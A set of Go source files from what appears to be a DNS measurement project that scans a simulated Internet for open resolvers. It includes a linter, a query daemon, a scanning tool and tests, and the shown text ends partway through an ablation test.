			if err != nil {
				fmt.Fprintln(stderr, "wildlint:", err)
				return 2
			}
			for _, f := range lint.CheckEscapeLog(spans, logBytes, cwd) {
				f.Pos.Filename = relPath(cwd, f.Pos.Filename)
				findings = append(findings, f)
			}
		}
	}

	// Findings arrive sorted per package; re-sort globally so multi-dir
	// runs (and JSON output) are byte-identical regardless of dir order
	// or scheduling.
	sort.Slice(findings, func(i, j int) bool {
		a, b := findings[i], findings[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Rule != b.Rule {
			return a.Rule < b.Rule
		}
		return a.Msg < b.Msg
	})

	if *jsonOut {
		out := make([]jsonFinding, 0, len(findings))
		for _, f := range findings {
			out = append(out, jsonFinding{
				Rule: f.Rule, File: f.Pos.Filename, Line: f.Pos.Line,
				Msg: f.Msg, Allowed: f.Allowed,
			})
		}
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(out); err != nil {
			fmt.Fprintln(stderr, "wildlint:", err)
			return 2
		}
	}

	status := 0
	for _, f := range findings {
		if f.Allowed {
			continue
		}
		if !*jsonOut {
			fmt.Fprintln(stdout, f)
		}
		status = 1
	}
	return status
}

// parseRules validates the -rules list against the known rule names.
func parseRules(s string) ([]string, error) {
	var rules []string
	for _, r := range strings.Split(s, ",") {
		r = strings.TrimSpace(r)
		if r == "" {
			continue
		}
		known := r == "allow"
		for _, k := range lint.AllRules {
			if k == r {
				known = true
			}
		}
		if !known {
			return nil, fmt.Errorf("unknown rule %q (known: %s)", r, strings.Join(lint.AllRules, ", "))
		}
		rules = append(rules, r)
	}
	if len(rules) == 0 {
		return nil, fmt.Errorf("-rules given but no rule names parsed")
	}
	// The allow machinery (malformed/stale //lint:allow findings) rides
	// along unless the filter names only other rules on purpose; include
	// it implicitly so a filtered run still reports rotted escapes for
	// the rules it checks.
	if !contains(rules, "allow") {
		rules = append(rules, "allow")
	}
	return rules, nil
}

func contains(xs []string, want string) bool {
	for _, x := range xs {
		if x == want {
			return true
		}
	}
	return false
}

// expandArgs turns the command-line patterns into package directories.
// The only pattern understood is ./... (the whole module); anything else
// is taken as a directory holding one package.
func expandArgs(args []string, modRoot string) ([]string, error) {
	if len(args) == 0 {
		return lint.PackageDirs(modRoot)
	}
	var dirs []string
	for _, a := range args {
		if a == "./..." || a == "..." {
			more, err := lint.PackageDirs(modRoot)
			if err != nil {
				return nil, err
			}
			dirs = append(dirs, more...)
			continue
		}
		dirs = append(dirs, a)
	}
	return dirs, nil
}

// relPath shortens p relative to base when that makes it shorter.
func relPath(base, p string) string {
	if rel, err := filepath.Rel(base, p); err == nil && len(rel) < len(p) {
		return rel
	}
	return p
}
