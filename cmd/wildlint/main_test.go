package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"runtime"
	"testing"
)

// capture runs wildlint with stdout/stderr redirected to temp files and
// returns (exit status, stdout bytes, stderr bytes).
func capture(t *testing.T, args []string) (int, []byte, []byte) {
	t.Helper()
	dir := t.TempDir()
	outF, err := os.Create(filepath.Join(dir, "out"))
	if err != nil {
		t.Fatal(err)
	}
	errF, err := os.Create(filepath.Join(dir, "err"))
	if err != nil {
		t.Fatal(err)
	}
	status := run(args, outF, errF)
	outF.Close()
	errF.Close()
	out, _ := os.ReadFile(outF.Name())
	errb, _ := os.ReadFile(errF.Name())
	return status, out, errb
}

// flowPkgs is a small, flow-analysis-heavy package set so the
// determinism tests stay fast; the whole-module equivalent runs in
// TestRepoIsClean and CI.
var flowPkgs = []string{
	"../../internal/scanner",
	"../../internal/metrics",
	"../../internal/analysis",
	"../../internal/dnswire",
}

// TestJSONDeterministicAcrossRuns pins the satellite guarantee: -json
// output is byte-identical run to run and under a GOMAXPROCS flip. Map
// iteration anywhere in the analyzers would break this.
func TestJSONDeterministicAcrossRuns(t *testing.T) {
	old := runtime.GOMAXPROCS(1)
	defer runtime.GOMAXPROCS(old)

	args := append([]string{"-json"}, flowPkgs...)
	st1, out1, err1 := capture(t, args)
	if st1 == 2 {
		t.Fatalf("load failed: %s", err1)
	}

	runtime.GOMAXPROCS(4)
	st2, out2, _ := capture(t, args)
	if st1 != st2 {
		t.Fatalf("exit status flipped with GOMAXPROCS: %d vs %d", st1, st2)
	}
	if string(out1) != string(out2) {
		t.Errorf("-json output differs across GOMAXPROCS flip\n--- P=1 ---\n%s--- P=4 ---\n%s", out1, out2)
	}

	st3, out3, _ := capture(t, args)
	if st3 != st2 || string(out3) != string(out2) {
		t.Error("-json output differs across identical reruns")
	}
}

// TestJSONShape decodes the output and checks ordering and field
// presence rather than trusting the encoder.
func TestJSONShape(t *testing.T) {
	_, out, errb := capture(t, append([]string{"-json"}, flowPkgs...))
	if len(out) == 0 {
		t.Fatalf("no JSON produced; stderr: %s", errb)
	}
	var findings []jsonFinding
	if err := json.Unmarshal(out, &findings); err != nil {
		t.Fatalf("output is not a JSON finding array: %v", err)
	}
	for i := 1; i < len(findings); i++ {
		a, b := findings[i-1], findings[i]
		if a.File > b.File || (a.File == b.File && a.Line > b.Line) {
			t.Errorf("findings out of order: %s:%d before %s:%d", a.File, a.Line, b.File, b.Line)
		}
	}
	for _, f := range findings {
		if f.Rule == "" || f.File == "" || f.Line == 0 {
			t.Errorf("incomplete finding: %+v", f)
		}
	}
}

// TestRulesFilter restricts the run to one rule and checks nothing else
// leaks through.
func TestRulesFilter(t *testing.T) {
	_, out, errb := capture(t, append([]string{"-json", "-rules", "lockcheck"}, flowPkgs...))
	if len(out) == 0 {
		t.Fatalf("no JSON produced; stderr: %s", errb)
	}
	var findings []jsonFinding
	if err := json.Unmarshal(out, &findings); err != nil {
		t.Fatal(err)
	}
	for _, f := range findings {
		if f.Rule != "lockcheck" && f.Rule != "allow" {
			t.Errorf("rule %s leaked through -rules lockcheck", f.Rule)
		}
	}
}

// TestRulesFilterRejectsUnknown pins the diagnostic for typo'd rules.
func TestRulesFilterRejectsUnknown(t *testing.T) {
	status, _, errb := capture(t, []string{"-rules", "lockchek", "../../internal/scanner"})
	if status != 2 {
		t.Fatalf("unknown rule accepted (status %d)", status)
	}
	if want := "unknown rule"; !containsStr(string(errb), want) {
		t.Errorf("diagnostic missing %q: %s", want, errb)
	}
}

// TestLoadFailureIsFatal points wildlint at a module with a file that
// does not type-check: the run must exit 2 and name the package instead
// of silently analyzing a partial set.
func TestLoadFailureIsFatal(t *testing.T) {
	dir := t.TempDir()
	mustWrite(t, filepath.Join(dir, "go.mod"), "module brokenmod\n\ngo 1.22\n")
	mustWrite(t, filepath.Join(dir, "broken.go"),
		"package brokenmod\n\nfunc f() int { return undefinedSymbol }\n")

	cwd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chdir(dir); err != nil {
		t.Fatal(err)
	}
	defer os.Chdir(cwd)

	status, _, errb := capture(t, []string{"./..."})
	if status != 2 {
		t.Fatalf("broken package exited %d, want 2; stderr: %s", status, errb)
	}
	if !containsStr(string(errb), "cannot analyze") {
		t.Errorf("diagnostic does not name the failing package: %s", errb)
	}
}

func mustWrite(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func containsStr(haystack, needle string) bool {
	for i := 0; i+len(needle) <= len(haystack); i++ {
		if haystack[i:i+len(needle)] == needle {
			return true
		}
	}
	return false
}
