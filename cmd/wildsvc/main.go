// Command wildsvc is the long-running resolver-intelligence daemon: it
// continuously re-scans the simulated Internet in weekly epochs and
// serves an HTTP/JSON query API over the live result store — "is this
// IP an open resolver? what rcode, country, RIR? first/last seen?" —
// with coalesced on-demand probes for anything the store cannot vouch
// for.
//
// Usage:
//
//	wildsvc -order 16 -epochs 55 -addr localhost:8053   # daemon
//	wildsvc -order 16 -epochs 6 -loadgen                # benchmark, writes BENCH_serve.json
//	wildsvc -order 16 -smoke                            # self-contained smoke test
//
// The API rides the debug endpoint's mux: /resolver?ip=A.B.C.D,
// /resolvers?limit=N&open=1, /svc/status, plus the usual /metrics,
// /metrics.json, /debug/vars, /debug/pprof.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"sync"
	"time"

	"goingwild/internal/core"
	"goingwild/internal/debughttp"
	"goingwild/internal/geodb"
	"goingwild/internal/lfsr"
	"goingwild/internal/metrics"
	"goingwild/internal/resolvesvc"
	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
)

func main() {
	var (
		order       = flag.Uint("order", 16, "address-space width in bits")
		seed        = flag.Uint64("seed", 0x60176A11D, "world seed")
		epochs      = flag.Int("epochs", 55, "weekly re-scan epochs the producer runs")
		addr        = flag.String("addr", "", "HTTP listen address for the query API (default 127.0.0.1:0 for the daemon; empty disables HTTP in -loadgen)")
		queueDepth  = flag.Int("queue-depth", 2, "bounded epoch queue between producer and store")
		ttlBase     = flag.Int("ttl-base", resolvesvc.DefaultTTLBase, "refresh TTL in epochs for once-flapped records (halves per flap)")
		batchWindow = flag.Duration("batch-window", 2*time.Millisecond, "how long the coalescer gathers concurrent misses into one probe batch")
		workers     = flag.Int("workers", 8, "scanner sender goroutines")
		progress    = flag.Bool("progress", false, "print one line per committed epoch to stderr")
		metricsPath = flag.String("metrics", "", "write a JSON metrics snapshot to this file at exit")
		loadgen     = flag.Bool("loadgen", false, "run the epochs, then the deterministic lookup storm, and write the benchmark report")
		benchOut    = flag.String("bench-out", "BENCH_serve.json", "where -loadgen writes its report")
		lgWorkers   = flag.Int("loadgen-workers", 8, "lookup goroutines for -loadgen")
		lgLookups   = flag.Int("loadgen-lookups", 2_000_000, "total timed lookups for -loadgen")
		smoke       = flag.Bool("smoke", false, "run the self-contained HTTP smoke test and exit")
	)
	flag.Parse()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	reg := metrics.New()
	cfg := core.DefaultConfig(*order)
	cfg.Seed = *seed
	cfg.Weeks = *epochs
	cfg.Workers = *workers
	cfg.Metrics = reg
	if *smoke {
		// The smoke run is small and fast: a few epochs, a generous
		// batch window so the concurrent-miss burst provably coalesces.
		cfg.Weeks = 3
		*epochs = 3
		*batchWindow = 100 * time.Millisecond
	}
	study, err := core.NewStudy(cfg)
	if err != nil {
		fatal(err)
	}
	defer study.Close()

	// The demand prober rides its own transport: scanner.ProbeContext
	// installs a receiver, and sharing the sweep transport would steal
	// the epoch sweep's receiver mid-scan. The world is immutable after
	// construction, so a second transport observes identical behavior.
	proberTr := wildnet.NewMemTransport(study.World, wildnet.VantagePrimary)
	defer proberTr.Close()
	prober := scanner.New(proberTr, scanner.Options{
		Workers:     2,
		SettleDelay: scanner.NoSettle,
		Metrics:     reg,
	})

	locator := func(u uint32) (string, geodb.RIR) {
		loc := study.World.Geo().LookupU32(u)
		return loc.Country, loc.RIR
	}
	svcCfg := resolvesvc.Config{
		Order:       *order,
		ScanSeed:    cfg.ScanSeed,
		Epochs:      *epochs,
		QueueDepth:  *queueDepth,
		TTLBase:     *ttlBase,
		BatchWindow: *batchWindow,
		Blacklist:   study.World.ScanBlacklist(),
	}
	if *progress {
		svcCfg.OnEpoch = func(st resolvesvc.EpochStatus) {
			fmt.Fprintf(os.Stderr, "wildsvc: epoch %d committed  probed=%d deltas=%d records=%d open=%d lag=%d\n",
				st.Epoch, st.Probed, st.Deltas, st.Records, st.Open, st.Lag)
		}
	}
	svc := resolvesvc.New(svcCfg, resolvesvc.Deps{
		Scanner:    study.Scanner,
		SweepClock: study.Transport,
		Prober:     prober,
		ProbeClock: proberTr,
		Locator:    locator,
		Metrics:    reg,
		WallClock:  scanner.SystemClock,
	})

	if *metricsPath != "" {
		defer func() {
			if err := writeMetricsSnapshot(*metricsPath, reg); err != nil {
				fmt.Fprintln(os.Stderr, "wildsvc:", err)
			}
		}()
	}

	// Mount the query API on the debug endpoint's mux.
	serveAddr := *addr
	if serveAddr == "" && !*loadgen {
		serveAddr = "127.0.0.1:0"
	}
	var baseURL string
	if serveAddr != "" {
		var routes []debughttp.Route
		for _, r := range svc.APIRoutes() {
			routes = append(routes, debughttp.Route{Pattern: r.Pattern, Handler: r.Handler})
		}
		boundAddr, stopDebug, err := debughttp.Serve(serveAddr, reg, routes...)
		if err != nil {
			fatal(err)
		}
		defer func() {
			if err := stopDebug(); err != nil {
				fmt.Fprintln(os.Stderr, "wildsvc: http endpoint:", err)
			}
		}()
		baseURL = "http://" + boundAddr
		fmt.Fprintf(os.Stderr, "wildsvc: query API on %s\n", baseURL)
	}

	// The epoch loop: the producer keeps re-sweeping the space and Run
	// returns once every epoch has been committed to the store. The
	// coalescer keeps answering demand probes until ctx is cancelled.
	runErr := make(chan error, 1)
	go func() { runErr <- svc.Run(ctx) }()

	switch {
	case *smoke:
		// Wait for the epochs, then drive the API over real HTTP.
		if err := <-runErr; err != nil {
			fatal(err)
		}
		if err := runSmoke(ctx, baseURL, svc, reg, *epochs); err != nil {
			fatal(err)
		}
		fmt.Println("wildsvc smoke: PASS")
	case *loadgen:
		if err := <-runErr; err != nil {
			fatal(err)
		}
		rep, err := svc.RunLoadGen(ctx, resolvesvc.LoadGenConfig{
			Workers: *lgWorkers,
			Lookups: *lgLookups,
		})
		if err != nil {
			fatal(err)
		}
		if err := writeReport(*benchOut, rep); err != nil {
			fatal(err)
		}
		fmt.Fprintf(os.Stderr, "wildsvc loadgen: %d lookups in %.3fs = %.2fM lookups/s  p50=%dns p99=%dns  (report: %s)\n",
			rep.Lookups, float64(rep.ElapsedNs)/1e9, rep.LookupsPerS/1e6, rep.P50Ns, rep.P99Ns, *benchOut)
	default:
		// Daemon: after the final epoch the service keeps serving the
		// committed store (and demand probes) until interrupted.
		if err := <-runErr; err != nil && !errors.Is(err, context.Canceled) {
			fatal(err)
		}
		if ctx.Err() == nil {
			fmt.Fprintf(os.Stderr, "wildsvc: all %d epochs committed; serving until interrupt\n", *epochs)
			<-ctx.Done()
		}
		fmt.Fprintln(os.Stderr, "wildsvc: shutting down")
	}
}

// runSmoke drives the query API end to end over real HTTP: a known
// responder must hit the store, a known-miss IP must take the probe
// path, a concurrent burst must coalesce, and the counters must agree.
func runSmoke(ctx context.Context, baseURL string, svc *resolvesvc.Service, reg *metrics.Registry, epochs int) error {
	store := svc.Store()
	open := store.List(true, 1)
	if len(open) == 0 {
		return errors.New("smoke: no open resolvers in the store")
	}
	knownIP := lfsr.U32ToAddr(open[0].Addr).String()

	// A known responder: served from the store, correctly shaped.
	var lr resolvesvc.LookupResponse
	if err := getJSON(ctx, baseURL+"/resolver?ip="+knownIP, &lr); err != nil {
		return err
	}
	if !lr.Known || !lr.Open || lr.IP != knownIP {
		return fmt.Errorf("smoke: known responder %s answered %+v", knownIP, lr)
	}
	if lr.RCode == "" || lr.Epoch != epochs-1 {
		return fmt.Errorf("smoke: known responder %s shape off (rcode=%q epoch=%d want %d)", knownIP, lr.RCode, lr.Epoch, epochs-1)
	}
	hitsAfterKnown := reg.Snapshot().Counter("svc.lookup.hit")
	if hitsAfterKnown == 0 {
		return errors.New("smoke: known-responder lookup did not count as a hit")
	}

	// A known miss: an in-space address no sweep ever saw answers via
	// the demand-probe path.
	missAddr, ok := findMiss(store)
	if !ok {
		return errors.New("smoke: no miss address available")
	}
	missIP := lfsr.U32ToAddr(missAddr).String()
	if err := getJSON(ctx, baseURL+"/resolver?ip="+missIP, &lr); err != nil {
		return err
	}
	if lr.Source != "probe" || lr.FirstSeenEpoch != resolvesvc.NeverSeen {
		return fmt.Errorf("smoke: known miss %s answered %+v", missIP, lr)
	}
	if n := reg.Snapshot().Counter("svc.lookup.miss"); n == 0 {
		return errors.New("smoke: miss lookup did not count as a miss")
	}

	// A concurrent burst on a second cold address coalesces onto one
	// probe (the service's batch window holds the probe long enough for
	// every request of the burst to arrive).
	burstAddr, ok := findMiss(store)
	if !ok {
		return errors.New("smoke: no burst address available")
	}
	burstIP := lfsr.U32ToAddr(burstAddr).String()
	const fanout = 4
	errs := make([]error, fanout)
	var wg sync.WaitGroup
	for i := 0; i < fanout; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			var r resolvesvc.LookupResponse
			errs[i] = getJSON(ctx, baseURL+"/resolver?ip="+burstIP, &r)
		}(i)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	if n := reg.Snapshot().Counter("svc.lookup.coalesced"); n == 0 {
		return errors.New("smoke: concurrent burst did not coalesce")
	}

	// Status agrees with the store.
	var st resolvesvc.StatusResponse
	if err := getJSON(ctx, baseURL+"/svc/status", &st); err != nil {
		return err
	}
	if st.Epoch != epochs-1 || st.Records != store.Records() {
		return fmt.Errorf("smoke: status %+v disagrees with store (epoch %d, records %d)", st, epochs-1, store.Records())
	}
	snap := reg.Snapshot()
	fmt.Printf("wildsvc smoke: epoch=%d records=%d open=%d hit=%d miss=%d coalesced=%d probes=%d\n",
		st.Epoch, st.Records, st.Open,
		snap.Counter("svc.lookup.hit"), snap.Counter("svc.lookup.miss"),
		snap.Counter("svc.lookup.coalesced"), snap.Counter("svc.probe.done"))
	return nil
}

// findMiss returns an in-space (order-16 smoke world) address the store
// has no record of.
func findMiss(store *resolvesvc.Store) (uint32, bool) {
	space := uint32(1) << 16
	for a := uint32(1); a < space; a++ {
		if _, ok := store.Get(a); !ok {
			return a, true
		}
	}
	return 0, false
}

// getJSON fetches url and decodes the JSON body into out.
func getJSON(ctx context.Context, url string, out any) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("GET %s: status %d: %s", url, resp.StatusCode, body)
	}
	return json.Unmarshal(body, out)
}

// writeReport writes the benchmark report as indented JSON.
func writeReport(path string, rep *resolvesvc.BenchServeReport) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	if err := enc.Encode(rep); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// writeMetricsSnapshot writes the registry's final snapshot as JSON.
func writeMetricsSnapshot(path string, reg *metrics.Registry) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := reg.Snapshot().WriteJSON(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "wildsvc:", err)
	os.Exit(1)
}
