// Command dnsscan is the standalone scanning tool: Internet-wide sweeps,
// CHAOS fingerprinting, and domain-set scans over the virtual Internet —
// either through the in-memory transport or over real UDP sockets via the
// loopback gateway (-udp), which exercises the kernel network stack.
//
// Usage:
//
//	dnsscan -order 16 -mode sweep
//	dnsscan -order 16 -mode chaos -udp
//	dnsscan -order 16 -mode domains -category Banking
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"time"

	"goingwild/internal/checkpoint"
	"goingwild/internal/debughttp"
	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/fingerprint"
	"goingwild/internal/metrics"
	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
)

func main() {
	var (
		order       = flag.Uint("order", 16, "address-space width in bits")
		seed        = flag.Uint64("seed", 0x60176A11D, "world seed")
		scanSeed    = flag.Uint("scanseed", 0x5EED, "LFSR seed for the target permutation")
		week        = flag.Int("week", 0, "study week")
		mode        = flag.String("mode", "sweep", "sweep | chaos | domains")
		epochs      = flag.Int("epochs", 0, "run N weekly epoch sweeps through the delta layer (per-epoch diffs on stderr; summary reflects the replayed final snapshot)")
		category    = flag.String("category", "Banking", "domain category for -mode domains")
		useUDP      = flag.Bool("udp", false, "drive the scan over real UDP sockets (loopback gateway)")
		rate        = flag.Int("rate", 0, "probe rate limit in packets/s (0 = unlimited)")
		chaos       = flag.String("chaos", "", "fault-injection profile (clean, lossy, hostile, flaky); empty injects nothing")
		ckptDir     = flag.String("checkpoint", "", "directory for crash-safe sweep checkpoints (in-memory transport only)")
		resume      = flag.Bool("resume", false, "resume the sweep from the newest checkpoint in -checkpoint")
		progress    = flag.Bool("progress", false, "print a periodic progress line to stderr (implies a metrics registry)")
		metricsPath = flag.String("metrics", "", "write a JSON metrics snapshot to this file at exit")
		debugAddr   = flag.String("debug-addr", "", "serve expvar/pprof/metrics over HTTP on this address (e.g. localhost:6060)")
	)
	flag.Parse()

	if *resume && *ckptDir == "" {
		fatal(fmt.Errorf("-resume requires -checkpoint"))
	}
	if *ckptDir != "" && (*useUDP || *epochs > 0) {
		// The resumable sweep replays the in-memory world's deterministic
		// fault draws; real sockets and the epoch demo have no such replay.
		fatal(fmt.Errorf("-checkpoint supports only the in-memory transport without -epochs"))
	}

	// The checkpoint fingerprint covers every flag that shapes the sweep,
	// so a resume under different flags is refused.
	var runner *checkpoint.Runner
	var ctx context.Context
	if *ckptDir != "" {
		fingerprint := fmt.Sprintf("dnsscan order=%d seed=%#x scanseed=%#x week=%d chaos=%s", *order, *seed, *scanSeed, *week, *chaos)
		r, err := checkpoint.OpenRun(*ckptDir, *resume, fingerprint, os.Stdout, os.Stderr)
		if err != nil {
			fatal(err)
		}
		runner = r
		// Two-phase interrupts: first SIGINT checkpoints at the next
		// rendezvous and exits 3, the second cancels hard.
		var cancel context.CancelFunc
		ctx, cancel = context.WithCancel(context.Background())
		defer cancel()
		defer runner.InstallSignals(cancel)()
	} else {
		// SIGINT cancels the sweep within one send batch; the partial
		// tally still prints, so an interrupted scan reports what it saw.
		var stop context.CancelFunc
		ctx, stop = signal.NotifyContext(context.Background(), os.Interrupt)
		defer stop()
	}

	wcfg := wildnet.DefaultConfig(*order)
	wcfg.Seed = *seed
	// Metrics are a pure side channel: the scan's stdout is
	// byte-identical with and without a registry attached.
	var reg *metrics.Registry
	if *metricsPath != "" || *debugAddr != "" || *progress {
		reg = metrics.New()
		wcfg.Metrics = reg
	}
	if *chaos != "" {
		faults, err := wildnet.ChaosProfile(*chaos)
		if err != nil {
			fatal(err)
		}
		wcfg.Faults = faults
	}
	world, err := wildnet.NewWorld(wcfg)
	if err != nil {
		fatal(err)
	}

	var tr scanner.Transport
	var setWeek func(int)
	settle := scanner.NoSettle
	if *useUDP {
		gw, err := wildnet.StartGateway(world, wildnet.VantagePrimary)
		if err != nil {
			fatal(err)
		}
		defer gw.Close()
		gw.SetTime(wildnet.At(*week))
		udp, err := wildnet.DialGateway(gw.Addr())
		if err != nil {
			fatal(err)
		}
		tr = udp
		setWeek = func(w int) { gw.SetTime(wildnet.At(w)) }
		settle = 200 * time.Millisecond
		if *rate == 0 {
			// Loopback sockets drop bursts beyond the buffer; pace
			// real-UDP scans by default.
			*rate = 30000
		}
		fmt.Printf("scanning over UDP via gateway %s\n", gw.Addr())
	} else {
		mem := wildnet.NewMemTransport(world, wildnet.VantagePrimary)
		mem.SetTime(wildnet.At(*week))
		tr = mem
		setWeek = func(w int) { mem.SetTime(wildnet.At(w)) }
	}
	defer tr.Close()

	counted, stats := scanner.WithStats(tr)
	sweepRetries := 0
	if wcfg.Faults.Enabled() {
		// Ride over the injected loss the way the chaos harness does.
		sweepRetries = 2
	}
	sc := scanner.New(counted, scanner.Options{
		Workers: 8, Retries: 1, SettleDelay: settle, RatePPS: *rate,
		SweepRetries: sweepRetries, Metrics: reg,
	})
	if *debugAddr != "" {
		addr, stopDebug, err := debughttp.Serve(*debugAddr, reg)
		if err != nil {
			fatal(err)
		}
		defer func() {
			if err := stopDebug(); err != nil {
				fmt.Fprintln(os.Stderr, "dnsscan: debug endpoint:", err)
			}
		}()
		fmt.Fprintf(os.Stderr, "dnsscan: debug endpoint on http://%s\n", addr)
	}
	if *metricsPath != "" {
		defer func() {
			if err := writeMetricsSnapshot(*metricsPath, reg); err != nil {
				fmt.Fprintln(os.Stderr, "dnsscan:", err)
			}
		}()
	}
	if *progress {
		// The periodic traffic line goes to stderr, clocked through the
		// scanner's Clock seam, so stdout stays byte-identical.
		stopProg := metrics.StartProgress(os.Stderr, scanner.SystemClock, 2*time.Second, reg, nil)
		defer stopProg()
	}
	defer func() { fmt.Printf("traffic: %s\n", stats.Snapshot()) }()
	start := time.Now()
	var sweep *scanner.SweepResult
	if *epochs > 0 {
		// Epoch-streaming mode: one weekly sweep per epoch, expressed as
		// delta batches and replayed into a running snapshot — the same
		// diff/apply layer the streaming study engine rides on. Per-epoch
		// lines go to stderr; the summary below reflects the replayed
		// final snapshot, which must equal the last sweep exactly.
		var snapshot, prev []scanner.Responder
		var probed uint64
		var records int
		for epoch := 0; epoch < *epochs; epoch++ {
			setWeek(epoch)
			res, err := sc.SweepContext(ctx, *order, uint32(*scanSeed)+uint32(epoch), world.ScanBlacklist())
			if err != nil {
				fatal(err)
			}
			deltas := scanner.DiffSweepResponders(prev, res.Responders)
			snapshot, err = scanner.ApplyResponderDeltas(snapshot, deltas)
			if err != nil {
				fatal(err)
			}
			prev, probed = res.Responders, res.Probed
			records += len(deltas)
			fmt.Fprintf(os.Stderr, "dnsscan: epoch %d: %d delta records, %d responders\n",
				epoch, len(deltas), len(snapshot))
		}
		sweep = scanner.SnapshotSweep(probed, snapshot)
		elapsed := time.Since(start)
		fmt.Printf("epochs: %d sweeps, %d delta records in %v (%.0f records/s)\n",
			*epochs, records, elapsed.Round(time.Millisecond), float64(records)/elapsed.Seconds())
	} else if runner != nil {
		// Crash-safe sweep: progress lands in the checkpoint directory at
		// every rendezvous; a killed run resumes mid-sweep and reproduces
		// the uninterrupted responder set exactly.
		rc := &scanner.ResumeControl{
			Save: func(ck *scanner.SweepCheckpoint) error {
				if err := runner.Update("sweep", ck); err != nil {
					return err
				}
				return runner.CheckStop()
			},
		}
		var prev scanner.SweepCheckpoint
		if ok, err := runner.Fetch("sweep", &prev); err != nil {
			fatal(err)
		} else if ok {
			rc.Prev = &prev
		}
		var err error
		sweep, err = sc.SweepResumeContext(ctx, *order, uint32(*scanSeed), world.ScanBlacklist(), rc)
		if err != nil {
			fatal(err)
		}
	} else {
		var err error
		sweep, err = sc.SweepContext(ctx, *order, uint32(*scanSeed), world.ScanBlacklist())
		if err != nil {
			fatal(err)
		}
	}
	elapsed := time.Since(start)
	pps := float64(sweep.Probed) / elapsed.Seconds()
	fmt.Printf("sweep: %d targets in %v (%.0f probes/s), %d responders\n",
		sweep.Probed, elapsed.Round(time.Millisecond), pps, sweep.Total())
	for _, rc := range []dnswire.RCode{dnswire.RCodeNoError, dnswire.RCodeRefused, dnswire.RCodeServFail} {
		fmt.Printf("  %-9s %d\n", rc, sweep.ByRCode[rc])
	}
	fmt.Printf("  mis-sourced responses: %d\n", sweep.MisSourcedCount())

	switch *mode {
	case "sweep":
	case "chaos":
		resolvers := sweep.NOERROR()
		res, err := sc.ScanChaosContext(ctx, resolvers)
		if err != nil {
			fatal(err)
		}
		survey := fingerprint.SurveyChaos(res)
		fmt.Printf("chaos: %d/%d responded; versioned %.1f%%\n",
			survey.Responded, len(resolvers), 100*survey.VersionedShare())
	case "domains":
		var names []string
		for _, d := range domains.ByCategory(domains.Category(*category)) {
			names = append(names, d.Name)
		}
		if len(names) == 0 {
			fatal(fmt.Errorf("unknown category %q", *category))
		}
		names = append(names, domains.GroundTruth)
		resolvers := sweep.NOERROR()
		res, err := sc.ScanDomainsContext(ctx, resolvers, names)
		if err != nil {
			fatal(err)
		}
		for ni, name := range res.Names {
			answered, withAddrs := 0, 0
			for ri := range resolvers {
				a := &res.Answers[ni][ri]
				if a.Answered() {
					answered++
				}
				if len(a.Addrs) > 0 {
					withAddrs++
				}
			}
			fmt.Printf("  %-38s answered %5d  with-addresses %5d\n", name, answered, withAddrs)
		}
	default:
		fatal(fmt.Errorf("unknown mode %q", *mode))
	}
}

func fatal(err error) {
	if errors.Is(err, checkpoint.ErrStopped) {
		fmt.Fprintln(os.Stderr, "dnsscan: checkpoint saved; resume with -resume")
		os.Exit(3)
	}
	fmt.Fprintln(os.Stderr, "dnsscan:", err)
	os.Exit(1)
}

// writeMetricsSnapshot writes the registry's final snapshot as JSON.
func writeMetricsSnapshot(path string, reg *metrics.Registry) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := reg.Snapshot().WriteJSON(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}
