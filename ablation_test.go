// Ablation studies for the design choices DESIGN.md calls out: what
// breaks when a pipeline ingredient is removed. Each ablation runs the
// real pipeline twice — with and without the ingredient — and asserts the
// direction and rough magnitude of the damage.
package goingwild

import (
	"testing"

	"goingwild/internal/cluster"
	"goingwild/internal/core"
	"goingwild/internal/domains"
	"goingwild/internal/fetch"
	"goingwild/internal/htmlx"
	"goingwild/internal/prefilter"
	"goingwild/internal/websim"
	"goingwild/internal/wildnet"
)

// TestAblationCertRule removes prefilter rule (iii): without the HTTPS
// certificate probe, legitimate CDN answers from foreign ASes can no
// longer be filtered and the unexpected set balloons — the exact problem
// §3.4 introduces the TLS probe to solve.
func TestAblationCertRule(t *testing.T) {
	s, err := core.NewStudy(core.DefaultConfig(16))
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	s.SetWeek(50)
	sweep, err := s.SweepAt(50)
	if err != nil {
		t.Fatal(err)
	}
	resolvers := sweep.NOERROR()
	var names []string
	for _, d := range domains.ByCategory(domains.Alexa) {
		names = append(names, d.Name)
	}
	scan, err := s.Scanner.ScanDomains(resolvers, names)
	if err != nil {
		t.Fatal(err)
	}

	full := prefilter.Run(scan, s.PrefilterEnv())
	ablated := s.PrefilterEnv()
